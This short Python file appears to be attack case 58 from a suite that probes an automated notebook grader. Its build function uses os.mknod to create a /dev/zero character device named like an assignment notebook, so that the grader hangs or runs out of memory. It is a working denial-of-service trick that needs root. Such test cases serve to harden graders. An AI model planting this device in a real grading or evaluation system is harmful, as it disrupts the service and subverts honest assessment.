# attack: 58
# title: the notebook is the device that never ends
# success: memory of the grader, or a hang
# kind: submission
# status: pending
# needs: root
# unshown: reading /dev/zero without end needs no proof
import os
import stat


def build(folder, notebook):
    path = folder / "a07_backpropagation.ipynb"
    os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 5))
